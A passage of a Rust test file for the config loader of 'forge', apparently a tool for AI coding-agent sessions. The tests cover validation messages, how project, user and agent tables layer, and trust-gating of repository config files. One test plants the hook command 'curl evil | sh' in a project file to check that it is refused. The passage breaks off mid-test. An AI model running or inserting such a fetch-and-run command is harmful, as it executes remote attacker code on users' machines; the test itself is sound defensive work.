/// validate()'s messages for out-of-range values, word for word. (The messages for
/// a value that is not one of a key's names, or not a duration, come from the types
/// now: [`a_value_its_type_refuses_is_said_word_for_word_with_what_is_allowed`].)
#[test]
fn range_messages_name_the_key_the_range_and_the_value() {
    let msg = |edit: &dyn Fn(&mut Config)| {
        let mut c = Config::default();
        edit(&mut c);
        validate(&c).unwrap_err()
    };
    assert_eq!(
        msg(&|c| c.context.warn = 150.0),
        (
            vec!["context.warn"],
            "`context.warn` must be between 0 and 100, found 150".to_owned()
        )
    );
    assert_eq!(
        msg(&|c| c.statusline.bar_width = 0).1,
        "`statusline.bar_width` must be 1 to 100, found 0"
    );
    assert_eq!(
        msg(&|c| c.relay.threshold = 0.5).1,
        "`relay.threshold` must be between 1 and 100, found 0.5"
    );
    assert_eq!(
        msg(&|c| c.relay.max_handoffs = 21).1,
        "`relay.max_handoffs` must be 0 to 20, found 21"
    );
    assert_eq!(
        msg(&|c| c.relay.grace_secs = 0).1,
        "`relay.grace_secs` must be 1 to 120, found 0"
    );
    assert_eq!(
        msg(&|c| c.notify.timeout_secs = 601).1,
        "`notify.timeout_secs` must be 1 to 600, found 601"
    );
    assert_eq!(
        msg(&|c| c.notify.pane_capture_lines = 501).1,
        "`notify.pane_capture_lines` must be 0 to 500, found 501"
    );
    assert_eq!(
        msg(&|c| c.share.timeout_secs = 0).1,
        "`share.timeout_secs` must be 1 to 600, found 0"
    );
    assert_eq!(
        msg(&|c| c.learn.memory_max_lines = 9).1,
        "`learn.memory_max_lines` must be 10 or more, found 9"
    );
    let hook = |timeout_secs, threshold| UserHook {
        command: "true".into(),
        timeout_secs,
        threshold,
        replace_handoff: false,
    };
    assert_eq!(
        msg(&|c| c.on_session_start = vec![hook(0, None)]),
        (
            vec!["on_session_start"],
            "`on_session_start.timeout_secs` must be 1 to 600, found 0".to_owned()
        )
    );
    assert_eq!(
        msg(&|c| c.on_threshold = vec![hook(10, Some(101.0))]),
        (
            vec!["on_threshold"],
            "`on_threshold.threshold` must be between 1 and 100, found 101".to_owned()
        )
    );
}

use super::keys::{SIDES, hook_lists, schema, side_of};
use super::*;
use crate::model::named::Named;
use crate::model::segment::Segment;
use crate::model::session::state::ResumeAuto;

/// The names of a list of named values, to compare with what a file says.
fn names<T: Named>(values: &[T]) -> Vec<&'static str> {
    values.iter().map(|v| v.name()).collect()
}

fn setup() -> (tempfile::TempDir, Paths, Env) {
    let t = tempfile::tempdir().unwrap();
    let root = t.path().join("proj");
    std::fs::create_dir_all(root.join(".forge")).unwrap();
    let mut env = Env::for_test(&t.path().join("home"), &root);
    env.xdg_config_home = Some(t.path().join("xdg"));
    (t, Paths::new(root), env)
}

#[test]
fn defaults_when_no_files() {
    let (_t, p, env) = setup();
    let l = load(&p, &env).unwrap();
    assert_eq!(l.config, Config::default());
    assert_eq!(l.sources.get("context.warn"), Some(&Source::Default));
}

#[test]
fn project_over_user_over_default_per_field() {
    let (t, p, env) = setup();
    let user = t.path().join("xdg/forge/config.toml");
    std::fs::create_dir_all(user.parent().unwrap()).unwrap();
    std::fs::write(&user, "[context]\nwarn = 60\ncritical = 80\n").unwrap();
    std::fs::write(p.config(), "[context]\nwarn = 65\n").unwrap();
    let l = load(&p, &env).unwrap();
    assert_eq!(l.config.context.warn, 65.0);
    assert_eq!(l.config.context.critical, 80.0);
    assert_eq!(l.config.context.emergency, 95.0);
    assert_eq!(l.sources["context.warn"], Source::Project(p.config()));
    assert_eq!(l.sources["context.critical"], Source::User(user));
    assert_eq!(l.sources["context.emergency"], Source::Default);
}

#[test]
fn an_agent_table_wins_over_project_over_user_per_field() {
    let (t, p, mut env) = setup();
    let user = t.path().join("xdg/forge/config.toml");
    std::fs::create_dir_all(user.parent().unwrap()).unwrap();
    std::fs::write(
        &user,
        "[context]\nwarn = 60\ncritical = 80\n\
         [agents.builder.context]\nhandoff_threshold = 55\ncritical = 75\n",
    )
    .unwrap();
    std::fs::write(
        p.config(),
        "[context]\nwarn = 65\n[agents.builder.context]\ncritical = 78\n\
         [agents.reviewer.attention]\nstale_after = \"15m\"\n",
    )
    .unwrap();
    // stale_after acts (other projects' views show it): the file is trusted.
    trust_file(&p, &env);
    // No agent named: the tables are checked, not applied.
    let l = load(&p, &env).unwrap();
    assert_eq!(l.agent, None);
    assert_eq!(l.agents, ["builder", "reviewer"]);
    assert_eq!(l.config.context.critical, 80.0);
    // $FORGE_AGENT names it: agent > project > user > defaults, key by key; the
    // project's agent table over the user's.
    env.forge_agent = Some("builder".into());
    let l = load(&p, &env).unwrap();
    assert_eq!(l.agent.as_deref(), Some("builder"));
    assert_eq!(l.config.context.warn, 65.0);
    assert_eq!(l.config.context.critical, 78.0);
    assert_eq!(l.config.context.handoff_threshold, 55.0);
    assert_eq!(
        l.sources["context.critical"],
        Source::Agent("builder".into(), p.config())
    );
    assert_eq!(
        l.sources["context.handoff_threshold"],
        Source::Agent("builder".into(), user.clone())
    );
    assert_eq!(l.sources["context.warn"], Source::Project(p.config()));
    // Another agent gets only its own table.
    let l = load_as(&p, &env, "reviewer").unwrap();
    assert_eq!(l.config.context.critical, 80.0);
    assert_eq!(l.config.attention.stale_after.text(), "15m");
    // An agent without a table: the files as they are.
    let l = load_as(&p, &env, "nobody").unwrap();
    assert_eq!(l.config.context.handoff_threshold, 70.0);
}

#[test]
fn every_agent_table_is_checked_strictly() {
    let (_t, p, env) = setup();
    for (text, want) in [
        (
            "[agents.builder.context]\nwarm = 1\n",
            "unknown key `agents.builder.context.warm`",
        ),
        (
            "[agents.builder.contxt]\nwarn = 1\n",
            "unknown key `agents.builder.contxt`",
        ),
        (
            "[agents.builder.context]\nwarn = \"high\"\n",
            "in [agents.builder]: `context.warn` must be a number",
        ),
        ("agents = 3\n", "`agents` must hold tables"),
        (
            "[agents]\nbuilder = 3\n",
            "`agents.builder` must be a table",
        ),
        (
            "[agents.a.agents.b.context]\nwarn = 1\n",
            "agent tables do not nest",
        ),
    ] {
        std::fs::write(p.config(), text).unwrap();
        let e = load(&p, &env).unwrap_err().to_string();
        assert!(e.contains(want), "{text:?}: {e}");
        assert!(e.contains("config.toml"), "names the file: {e}");
    }
    // Values checked after merging name the agent's file too.
    std::fs::write(p.config(), "[agents.builder.context]\nwarn = 99\n").unwrap();
    let e = load_as(&p, &env, "builder").unwrap_err().to_string();
    assert!(e.contains("context levels must rise"), "{e}");
}

#[test]
fn the_shipped_example_config_is_valid_for_every_agent() {
    let (_t, p, env) = setup();
    std::fs::write(
        p.config(),
        include_str!("../../assets/examples/config.toml"),
    )
    .unwrap();
    let l = load(&p, &env).unwrap();
    assert_eq!(l.agents, ["builder", "planner", "reviewer"]);
    let builder = load_as(&p, &env, "builder").unwrap().config;
    assert_eq!(builder.context.handoff_threshold, 60.0);
    assert_eq!(builder.resume.max_age.text(), "4h");
    let planner = load_as(&p, &env, "planner").unwrap().config;
    assert_eq!(planner.resume.auto, ResumeAuto::Never);
    let reviewer = load_as(&p, &env, "reviewer").unwrap().config;
    assert!(reviewer.statusline.segments.contains(&Segment::Cost));
    assert_eq!(reviewer.context.handoff_threshold, 70.0);
    // As a project's file, the keys it marks "acts" wait for trust, and only those.
    let text = include_str!("../../assets/examples/config.toml");
    let marked = |word: &str| text.lines().filter(|l| l.contains(word)).count();
    let (acting, gating): (Vec<_>, Vec<_>) = l.ignored.iter().partition(|i| !i.shown);
    assert_eq!(acting.len(), marked("# acts"), "{acting:?}");
    assert_eq!(gating.len(), marked("# gates"), "{gating:?}");
    let sha = crate::model::setup::trust::content_hash(text.as_bytes());
    assert!(load_trusting(&p, &env, &sha).unwrap().ignored.is_empty());
    trust_file(&p, &env);
    let reviewer = load_as(&p, &env, "reviewer").unwrap().config;
    assert_eq!(reviewer.attention.stale_after.text(), "15m");
}

#[test]
fn user_hooks_come_only_from_the_users_own_file() {
    let (t, p, env) = setup();
    let user = t.path().join("xdg/forge/config.toml");
    std::fs::create_dir_all(user.parent().unwrap()).unwrap();
    std::fs::write(
        &user,
        "[[on_threshold]]\ncommand = \"notify-send hi\"\nthreshold = 80\n\
         [[on_threshold]]\ncommand = \"true\"\ntimeout_secs = 3\nreplace_handoff = true\n\
         [[on_session_start]]\ncommand = \"echo hi\"\n",
    )
    .unwrap();
    let l = load(&p, &env).unwrap();
    let hooks: Vec<(usize, f64, u64)> = l
        .config
        .threshold_hooks()
        .map(|(i, h, t)| (i, t, h.timeout_secs))
        .collect();
    assert_eq!(hooks, [(0, 80.0, 10), (1, 70.0, 3)]);
    assert!(l.config.on_threshold[1].replace_handoff);
    assert_eq!(l.config.on_session_start[0].command, "echo hi");
    // A project file (which a repository can ship) may not run commands, not even
    // in an agent table.
    for text in [
        "[[on_session_start]]\ncommand = \"curl evil | sh\"\n",
        "[[agents.builder.on_threshold]]\ncommand = \"x\"\n",
    ] {
        std::fs::write(p.config(), text).unwrap();
        let e = load(&p, &env).unwrap_err().to_string();
        assert!(e.contains("runs commands"), "{e}");
        assert!(e.contains(&p.config().display().to_string()), "{e}");
    }
    std::fs::remove_file(p.config()).unwrap();
    // Checked like the rest.
    for (text, want) in [
        (
            "[[on_threshold]]\ncommand = \"x\"\ntimeout = 3\n",
            "unknown key `on_threshold.timeout`",
        ),
        (
            "on_threshold = 3\n",
            "must be a list of tables like [[on_threshold]]",
        ),
        ("[[on_threshold]]\ncommand = \" \"\n", "must name a command"),
        (
            "[[on_threshold]]\ncommand = \"x\"\ntimeout_secs = 0\n",
            "1 to 600",
        ),
        (
            "[[on_session_start]]\ncommand = \"x\"\nthreshold = 50\n",
            "belong to [[on_threshold]]",
        ),
    ] {
        std::fs::write(&user, text).unwrap();
        let e = load(&p, &env).unwrap_err().to_string();
        assert!(e.contains(want), "{text:?}: {e}");
    }
}

#[test]
fn ladder_and_notify_values_are_checked() {
    let (t, p, env) = setup();
    // In your own file (a project file's acting keys apply only once trusted).
    let user = t.path().join("xdg/forge/config.toml");
    std::fs::create_dir_all(user.parent().unwrap()).unwrap();
    for (text, want) in [
        (
            "[ladder]\nL2 = [\"nap\"]\n",
            "`ladder.L2` has unknown action \"nap\"",
        ),
        (
            "[notify]\nevents = [\"lunch\"]\n",
            "`notify.events` has unknown event \"lunch\"",
        ),
        (
            "[notify]\nmode = \"sync\"\n",
            "`notify.mode` must be \"async\" or \"bidirectional\"",
        ),
    ] {
        std::fs::write(&user, text).unwrap();
        let e = load(&p, &env).unwrap_err().to_string();
        assert!(e.contains(want), "{text:?}: {e}");
        assert!(e.contains(&user.display().to_string()), "{e}");
    }
    std::fs::write(
        &user,
        "[ladder]\nL1 = []\nL3 = [\"wip_commit\", \"alert\"]\n",
    )
    .unwrap();
    let l = load(&p, &env).unwrap();
    assert!(l.config.ladder.l1.is_empty());
    assert_eq!(names(&l.config.ladder.l2), ["alert"]);
}

/// Trusts the project file's current content, as `forge trust` does.
fn trust_file(p: &Paths, env: &Env) {
    let text = std::fs::read(p.config()).unwrap();
    let root = crate::store::registry::root_key(&p.root).unwrap();
    crate::store::trust::write(
        env,
        &crate::model::setup::trust::Record {
            version: crate::model::setup::trust::VERSION,
            project: root,
            config: p.config().display().to_string(),
            sha256: crate::model::setup::trust::content_hash(&text),
            trusted_at: "2026-11-26T10:00:00Z".into(),
        },
    )
    .unwrap();
}

#[test]
fn a_project_files_acting_keys_apply_only_while_its_content_is_trusted() {
    let (_t, p, env) = setup();
    let text = "[context]\nwarn = 60\n[statusline]\nbar_width = 20\n\
                [ladder]\nL1 = [\"wip_commit\"]\nprotected_branches = []\n\
                [notify]\nmode = \"bidirectional\"\ntimeout_secs = 600\nstdin = true\n\
                pane_capture_lines = 500\n\
                [attention]\nstale_after = \"365d\"\n\
                [handoffs]\nauto_prune = true\nkeep = 0\n\
                [relay]\nthreshold = 5\n\
                [agents.builder.ladder]\nL2 = [\"wip_commit\"]\n";
    std::fs::write(p.config(), text).unwrap();
    untrusted_applies_what_shows_only(&p, &env);
    trust_file(&p, &env);
    trusted_applies_everything(&p, &env);
    // An edit (one byte) revokes it.
    std::fs::write(p.config(), format!("{text}\n")).unwrap();
    let l = load(&p, &env).unwrap();
    assert_eq!(l.config.ladder, Config::default().ladder);
    assert!(matches!(l.trust, Trust::Untrusted { changed: true, .. }));
    assert!(l.ignored_summary(&p.root).unwrap().contains("changed"));
    // A file with nothing that acts needs no trust.
    std::fs::write(p.config(), "[statusline]\nbar_width = 20\n").unwrap();
    assert_eq!(load(&p, &env).unwrap().trust, Trust::Inert);
    std::fs::remove_file(p.config()).unwrap();
    assert_eq!(load(&p, &env).unwrap().trust, Trust::Absent);
}

/// The levels and the handoff threshold of a file nobody trusted show, but when your
/// own steps act is decided by your file (its agent tables too), or the defaults.
#[test]
fn gating_values_of_an_untrusted_file_show_but_never_decide_when_your_steps_act() {
    let (t, p, env) = setup();
    let user = t.path().join("xdg/forge/config.toml");
    std::fs::create_dir_all(user.parent().unwrap()).unwrap();
    std::fs::write(
        &user,
        "[context]\nwarn = 50\n[agents.builder.context]\nhandoff_threshold = 65\n\
         [[on_threshold]]\ncommand = \"true\"\n",
    )
    .unwrap();
    std::fs::write(
        p.config(),
        "[context]\nwarn = 1\ncritical = 2\nemergency = 3\nhandoff_threshold = 2\n\
         [agents.builder.context]\nhandoff_threshold = 4\n",
    )
    .unwrap();
    let l = load(&p, &env).unwrap();
    assert!(matches!(l.trust, Trust::Untrusted { .. }), "{:?}", l.trust);
    assert_eq!(
        (l.config.context.warn, l.config.context.handoff_threshold),
        (1.0, 2.0),
        "shown"
    );
    let acting = l.config.acting_context();
    assert_eq!(
        (
            acting.warn,
            acting.critical,
            acting.emergency,
            acting.handoff_threshold
        ),
        (50.0, 85.0, 95.0, 70.0)
    );
    let hook_at: Vec<f64> = l.config.threshold_hooks().map(|(_, _, t)| t).collect();
    assert_eq!(hook_at, [70.0], "a hook with no threshold waits on yours");
    assert!(l.ignored.iter().all(|i| i.shown));
    assert!(
        l.ignored_summary(&p.root)
            .unwrap()
            .contains("what forge shows still follows them"),
        "{:?}",
        l.ignored_summary(&p.root)
    );
    let builder = load_as(&p, &env, "builder").unwrap().config;
    assert_eq!(builder.context.handoff_threshold, 4.0);
    assert_eq!(builder.acting_context().handoff_threshold, 65.0);
    // Your values alone do not rise (the file filled the gap): the defaults act.
    std::fs::write(&user, "[context]\nwarn = 90\n").unwrap();
    std::fs::write(p.config(), "[context]\ncritical = 95\nemergency = 99\n").unwrap();
    let l = load(&p, &env).unwrap();
    assert_eq!(l.config.acting_context(), &ContextConfig::default());
    // Trusted, the file decides both.
    std::fs::write(
        p.config(),
        "[context]\nwarn = 1\ncritical = 2\nemergency = 3\n",
    )
    .unwrap();
    trust_file(&p, &env);
    let l = load(&p, &env).unwrap();
    assert_eq!(l.config.gates, None);
    assert_eq!(l.config.acting_context().warn, 1.0);
}

/// Untrusted: what the file shows applies, what acts does not (no error either).
fn untrusted_applies_what_shows_only(p: &Paths, env: &Env) {
    let l = load(p, env).unwrap();
    // The level shows from the file; when your steps act, it does not decide.
    assert_eq!(l.config.context.warn, 60.0);
    assert_eq!(l.config.acting_context().warn, 70.0);
    assert_eq!(l.config.statusline.bar_width, 20);
    let d = Config::default();
    assert_eq!(l.config.ladder, d.ladder);
    assert_eq!(l.config.notify, d.notify);
    assert_eq!(l.config.attention, d.attention);
    assert_eq!(l.config.handoffs, d.handoffs);
    assert_eq!(l.config.relay, d.relay);
    assert_eq!(l.sources["ladder.L1"], Source::Default);
    let keys: Vec<&str> = l.ignored.iter().map(|i| i.key.as_str()).collect();
    assert_eq!(
        keys,
        [
            "agents.builder.ladder.L2",
            "attention.stale_after",
            "context.warn",
            "handoffs.auto_prune",
            "handoffs.keep",
            "ladder.L1",
            "ladder.protected_branches",
            "notify.mode",
            "notify.pane_capture_lines",
            "notify.stdin",
            "notify.timeout_secs",
            "relay.threshold",
        ]
    );
    assert!(matches!(l.trust, Trust::Untrusted { changed: false, .. }));
    assert!(
        l.ignored_summary(&p.root)
            .unwrap()
            .contains("forge trust --project")
    );
    let builder = load_as(p, env, "builder").unwrap().config;
    assert_eq!(builder.ladder.l2, d.ladder.l2);
}

/// Trusted: everything applies, the agent's acting tables too.
fn trusted_applies_everything(p: &Paths, env: &Env) {
    let l = load(p, env).unwrap();
    assert!(l.ignored.is_empty());
    assert!(matches!(l.trust, Trust::Trusted { .. }));
    assert_eq!(l.config.gates, None);
    assert_eq!(l.config.acting_context().warn, 60.0);
    assert_eq!(names(&l.config.ladder.l1), ["wip_commit"]);
    assert!(l.config.ladder.protected_branches.is_empty());
    assert_eq!(l.config.notify.mode.name(), "bidirectional");
    assert_eq!(l.config.attention.stale_after.text(), "365d");
    assert_eq!(l.config.relay.threshold, 5.0);
    assert_eq!(l.sources["ladder.L1"], Source::Project(p.config()));
    assert_eq!(
        names(&load_as(p, env, "builder").unwrap().config.ladder.l2),
        ["wip_commit"]
    );
}

#[test]
fn untrusted_acting_values_are_no_error_but_are_checked_before_trusting() {
    let (_t, p, env) = setup();
    let text = "[notify]\nmode = \"sync\"\n[ladder]\nL1 = 3\n";
    std::fs::write(p.config(), text).unwrap();
    let l = load(&p, &env).unwrap();
    assert_eq!(l.ignored.len(), 2);
    let sha = crate::model::setup::trust::content_hash(text.as_bytes());
    let e = load_trusting(&p, &env, &sha).unwrap_err().to_string();
    assert!(e.contains("`ladder.L1` must be a list"), "{e}");
    // Unknown keys and the keys that run commands stay errors, trusted or not.
    std::fs::write(p.config(), "[ladder]\nL9 = []\n").unwrap();
    assert!(load(&p, &env).is_err());
    std::fs::write(p.config(), "[notify]\ncommand = [\"x\"]\n").unwrap();
    assert!(
        load(&p, &env)
            .unwrap_err()
            .to_string()
            .contains("runs commands")
    );
}

#[test]
fn the_ignored_keys_are_said_once_per_content() {
    let (_t, p, env) = setup();
    std::fs::create_dir_all(p.logs()).unwrap();
    std::fs::write(p.config(), "[ladder]\nL1 = [\"wip_commit\"]\n").unwrap();
    let (cfg, first) = load_noting(&p, &env);
    assert_eq!(names(&cfg.ladder.l1), ["handoff"]);
    match first {
        Some(Outcome::ConfigIgnored { keys, why, .. }) => {
            assert_eq!(keys, ["ladder.L1"]);
            assert!(why.contains("not trusted"), "{why}");
        }
        other => panic!("{other:?}"),
    }
    assert_eq!(load_noting(&p, &env).1, None, "said once");
    std::fs::write(p.config(), "[ladder]\nL2 = [\"wip_commit\"]\n").unwrap();
    assert!(load_noting(&p, &env).1.is_some(), "new content: said again");
    assert_eq!(load_noting(&p, &env).1, None);
    // Without a state folder to keep the mark in, it is not said (else every
    // status-line tick would say it).
    let mut no_state = env.clone();
    no_state.home = None;
    std::fs::write(p.config(), "[ladder]\nL3 = [\"wip_commit\"]\n").unwrap();
    assert_eq!(load_noting(&p, &no_state).1, None);
}

/// The SessionStart notice to the person: said until it was shown once for this
/// content (its mark is apart from the event log's), said again for an edit, never
/// for a trusted file, and forgotten by a revoke.
#[test]
fn the_person_is_told_of_an_untrusted_file_once_per_content() {
    let (_t, p, env) = setup();
    std::fs::create_dir_all(p.logs()).unwrap();
    std::fs::write(p.config(), "[ladder]\nL1 = [\"wip_commit\"]\n").unwrap();
    // The event log hears of it first (a status-line tick): the person still does.
    assert!(load_noting(&p, &env).1.is_some());
    let (_, _, first) = load_noting_for_person(&p, &env);
    let first = first.expect("the person is told");
    assert!(
        first.line.contains(".forge/config.toml is not trusted")
            && first.line.contains("ladder.L1")
            && first.line.contains("`forge trust`"),
        "{}",
        first.line
    );
    // Not shown (not marked): said again; shown: not again.
    assert!(load_noting_for_person(&p, &env).2.is_some());
    mark_told(&env, &first).unwrap();
    assert_eq!(load_noting_for_person(&p, &env).2, None);
    std::fs::write(p.config(), "[ladder]\nL2 = [\"wip_commit\"]\n").unwrap();
    let edited = load_noting_for_person(&p, &env).2.expect("an edit is news");
    mark_told(&env, &edited).unwrap();
    assert_eq!(load_noting_for_person(&p, &env).2, None);
    trust_file(&p, &env);
    assert_eq!(load_noting_for_person(&p, &env).2, None, "trusted");
    let root = crate::git::trust_key(&p.root).unwrap();
    crate::store::trust::revoke(&env, &root).unwrap();
    assert!(
        load_noting_for_person(&p, &env).2.is_some(),
        "revoked: the person is told again"
    );
}

#[test]
fn every_key_has_a_side_and_only_known_keys_do() {
    // The keys serde knows (the schema) are the keys SIDES places, each once.
    let mut known = schema().keys();
    known.sort();
    let mut sided: Vec<String> = SIDES.iter().map(|k| k.key.to_owned()).collect();
    sided.sort();
    assert_eq!(sided, known, "every key of the config structs has a side");
    sided.dedup();
    assert_eq!(sided.len(), SIDES.len(), "each key once");
    // What runs a command is never merely "acting": it stays yours only.
    for k in ["notify.command", "on_threshold", "on_session_start"] {
        assert_eq!(side_of(k), Some(Side::YoursOnly), "{k}");
    }
    // The list: these act.
    for k in [
        "ladder.L1",
        "ladder.protected_branches",
        "notify.mode",
        "notify.timeout_secs",
        "notify.stdin",
        "notify.pane_capture_lines",
        "notify.events",
        "relay.threshold",
        "handoffs.auto_prune",
        "attention.stale_after",
    ] {
        assert_eq!(side_of(k), Some(Side::Acts), "{k}");
    }
    assert!(SIDES.iter().all(|k| !k.what.is_empty()));
}

#[test]
fn a_key_with_no_side_is_taken_for_one_that_acts() {
    // No key of the structs lacks a side (above); were one added without, a
    // project file nobody trusted would still not set it.
    let mut table: toml::Table =
        toml::from_str("[context]\nwarn = 60\nnew_key = 1\n[agents.b.context]\nnew_key = 2\n")
            .unwrap();
    let taken: Vec<String> = take_acting(&mut table)
        .into_iter()
        .map(|(k, _)| k)
        .collect();
    assert_eq!(taken, ["agents.b.context.new_key", "context.new_key"]);
    assert_eq!(table["context"].as_table().unwrap().len(), 1, "warn stays");
}

#[test]
fn docs_security_md_names_every_key_that_acts_or_runs_a_command() {
    let doc = include_str!("../../docs/security.md");
    for k in SIDES.iter().filter(|k| k.side != Side::Shows) {
        let name = if hook_lists().any(|l| l == k.key) {
            format!("`[[{}]]`", k.key)
        } else {
            format!("`{}`", k.key)
        };
        assert!(doc.contains(&name), "docs/security.md does not name {name}");
    }
    // And names no key as acting that does not.
    for k in SIDES.iter().filter(|k| k.side == Side::Shows) {
        assert!(
            !doc.contains(&format!("| `{}`", k.key)),
            "docs/security.md lists {} among the keys that act",
            k.key
        );
    }
}

/// What is read (serde's field lists) and what is written back (`forge config
/// show`, the merge over the defaults: `Serialize`) name the same keys.
#[test]
fn the_defaults_written_out_have_every_key_of_the_schema() {
    let v = toml::Value::try_from(Config::default()).unwrap();
    let mut written = Vec::new();
    // (An empty list of hook tables is a leaf of its own.)
    leaves("", &v, &mut written);
    written.sort();
    let mut known = schema().keys();
    known.sort();
    assert_eq!(written, known);
    // And every default reads back as itself (a duration's text included).
    assert_eq!(Config::deserialize(v).unwrap(), Config::default());
}

fn error_for(text: &str) -> String {
    let (_t, p, env) = setup();
    std::fs::write(p.config(), text).unwrap();
    load(&p, &env).unwrap_err().to_string()
}

/// The error for `text` as your own config file (where the keys that act apply).
fn user_error_for(text: &str) -> String {
    let (t, p, env) = setup();
    let user = t.path().join("xdg/forge/config.toml");
    std::fs::create_dir_all(user.parent().unwrap()).unwrap();
    std::fs::write(&user, text).unwrap();
    let e = load(&p, &env).unwrap_err().to_string();
    assert!(
        e.starts_with(&user.display().to_string()),
        "names the file: {e}"
    );
    e
}

/// Each key that names one of a few values, or a duration, is read into its type
/// when the file is: a wrong value is refused there, word for word as before, with
/// what the key takes.
#[test]
fn a_value_its_type_refuses_is_said_word_for_word_with_what_is_allowed() {
    for (text, want) in [
        (
            "[notify]\nmode = \"sync\"\n",
            "`notify.mode` must be \"async\" or \"bidirectional\", found \"sync\"",
        ),
        (
            "[resume]\nmax_age = \"soon\"\n",
            "`resume.max_age` must be a duration like \"30m\", \"12h\" or \"2d\", found \"soon\"",
        ),
        (
            "[attention]\nstale_after = \"12 h\"\n",
            "`attention.stale_after` must be a duration like \"30m\", \"12h\" or \"2d\", found \"12 h\"",
        ),
        (
            "[handoffs]\nolder_than = \"30\"\n",
            "`handoffs.older_than` must be a duration like \"30m\", \"12h\" or \"2d\", found \"30\"",
        ),
        (
            "[resume]\nauto = \"maybe\"\n",
            "`resume.auto` must be \"recent\", \"always\" or \"never\", found \"maybe\"",
        ),
        (
            "[hooks]\ndirty_warning = \"always\"\n",
            "`hooks.dirty_warning` must be \"grew\", \"changed\" or \"off\", found \"always\"",
        ),
        (
            "[statusline]\nwrap_position = \"left\"\n",
            "`statusline.wrap_position` must be \"after\", \"before\" or \"line\", found \"left\"",
        ),
        (
            "[ladder]\nL3 = [\"alert\", \"wip-commit\"]\n",
            "`ladder.L3` has unknown action \"wip-commit\" (known: handoff, alert, wip_commit)",
        ),
        (
            "[notify]\nevents = [\"stop\", \"lunch\"]\n",
            "`notify.events` has unknown event \"lunch\" (known: stop, idle, permission, \
             session_end, pre_compact, session_start)",
        ),
        // The wrong type is said as for any other key.
        (
            "[notify]\nmode = 3\n",
            "`notify.mode` must be text in quotes, found the number 3",
        ),
        (
            "[resume]\nmax_age = 12\n",
            "`resume.max_age` must be text in quotes, found the number 12",
        ),
        (
            "[statusline]\nsegments = [\"git\", true]\n",
            "`statusline.segments` must be text in quotes, found true",
        ),
    ] {
        let e = user_error_for(text);
        assert!(e.ends_with(want), "{text}: {e}");
    }
}

/// A value an agent's table cannot take is found whichever agent runs, as a wrong
/// type there always was: `forge config validate` says so before that agent's
/// session starts on the defaults.
#[test]
fn a_wrong_value_in_any_agent_table_is_found_at_every_load() {
    let e = user_error_for("[agents.builder.notify]\nmode = \"sync\"\n");
    assert!(
        e.ends_with(
            "in [agents.builder]: `notify.mode` must be \"async\" or \"bidirectional\", found \"sync\""
        ),
        "{e}"
    );
    let e = user_error_for("[agents.reviewer.statusline]\nsegments = [\"price\"]\n");
    assert!(
        e.contains("in [agents.reviewer]: `statusline.segments` has unknown segment \"price\""),
        "{e}"
    );
}

#[test]
fn errors_speak_plainly() {
    let e = error_for("[context]\nwran = 60\n");
    assert!(
        e.ends_with(
            "unknown key `context.wran` (valid keys in [context]: warn, critical, emergency, handoff_threshold)"
        ),
        "{e}"
    );
    assert_eq!(e.matches("wran").count(), 1, "named once: {e}");
    let e = error_for("[context]\nwran = 60\ncritcal = 1\n");
    assert!(
        e.contains("context.wran") && e.contains("context.critcal"),
        "{e}"
    );
    for (text, want) in [
        (
            "[context]\nwarn = \"high\"\n",
            "`context.warn` must be a number, found the text \"high\"",
        ),
        (
            "[statusline]\nbar_width = 1.5\n",
            "`statusline.bar_width` must be a whole number from 0 to 65535, found the number 1.5",
        ),
        (
            "[statusline]\nbar_width = -1\n",
            "`statusline.bar_width` must be a whole number from 0 to 65535, found the number -1",
        ),
        (
            "[git]\ncache_ttl_secs = \"x\"\n",
            "`git.cache_ttl_secs` must be a whole number (0 or more), found the text \"x\"",
        ),
        (
            "[hooks]\ncompaction_reread = 1\n",
            "`hooks.compaction_reread` must be true or false, found the number 1",
        ),
        (
            "[statusline]\nsegments = \"git\"\n",
            "`statusline.segments` must be a list, found the text \"git\"",
        ),
        (
            "context = 5\n",
            "`context` must be a table like [context], found the number 5",
        ),
        (
            "colour = 1\n",
            "unknown key `colour` (valid sections: [context], [statusline], [git], [hooks], [learn], [resume], [attention], [handoffs], [notify], [alerts], [ladder], [relay], [share], [[on_threshold]], [[on_session_start]], [agents.<name>.<section>])",
        ),
    ] {
        let e = error_for(text);
        assert!(e.ends_with(want), "{text}: {e}");
        for rust in ["f64", "u16", "u64", "struct", "sequence", "boolean"] {
            assert!(!e.contains(rust), "{text}: {e}");
        }
    }
    // Only the relation that is broken is stated.
    let e = error_for("[context]\nwarn = 90\n");
    assert!(
        e.ends_with("context levels must rise: warn (90) must be below critical (85)"),
        "{e}"
    );
    let e = error_for("[context]\ncritical = 99\n");
    assert!(
        e.ends_with("context levels must rise: critical (99) must be below emergency (95)"),
        "{e}"
    );
}

#[test]
fn optional_segments_are_accepted_and_unknown_ones_named() {
    let (_t, p, env) = setup();
    std::fs::write(
        p.config(),
        "[statusline]\nsegments = [\"context\", \"cost\", \"duration\", \"limits\", \"lines\"]\n",
    )
    .unwrap();
    let l = load(&p, &env).unwrap();
    assert_eq!(
        names(&l.config.statusline.segments),
        ["context", "cost", "duration", "limits", "lines"]
    );
    let e = error_for("[statusline]\nsegments = [\"context\", \"price\"]\n");
    // Every segment is named, in the order of the one list (model::segment).
    let known: Vec<&str> = Segment::ALL.iter().map(|s| s.name()).collect();
    assert_eq!(known[..3], ["model", "project", "git"]);
    assert!(
        e.ends_with(&format!(
            "`statusline.segments` has unknown segment \"price\" (known: {})",
            known.join(", ")
        )),
        "{e}"
    );
    // A name is matched as written: `Context` is not `context`.
    let e = error_for("[statusline]\nwrap_segments = [\"Context\"]\n");
    assert!(
        e.ends_with(&format!(
            "`statusline.wrap_segments` has unknown segment \"Context\" (known: {})",
            known.join(", ")
        )),
        "{e}"
    );
    // The segments beside a wrapped status line are checked the same way, and
    // so is where they go.
    let e = error_for("[statusline]\nwrap_segments = [\"context\", \"price\"]\n");
    assert!(
        e.contains("`statusline.wrap_segments` has unknown segment \"price\""),
        "{e}"
    );
    let e = error_for("[statusline]\nwrap_position = \"left\"\n");
    assert!(
        e.ends_with(
            "`statusline.wrap_position` must be \"after\", \"before\" or \"line\", found \"left\""
        ),
        "{e}"
    );
    std::fs::write(
        p.config(),
        "[statusline]\nwrap_position = \"line\"\nwrap_segments = [\"context\"]\n",
    )
    .unwrap();
    let l = load(&p, &env).unwrap();
    assert_eq!(l.config.statusline.wrap_position.name(), "line");
    assert_eq!(names(&l.config.statusline.wrap_segments), ["context"]);
    assert_eq!(
        names(&Config::default().statusline.wrap_segments),
        ["context", "task", "signals", "learn"]
    );
    // The optional ones are off by default.
    for name in ["cost", "duration", "limits", "lines", "elsewhere"] {
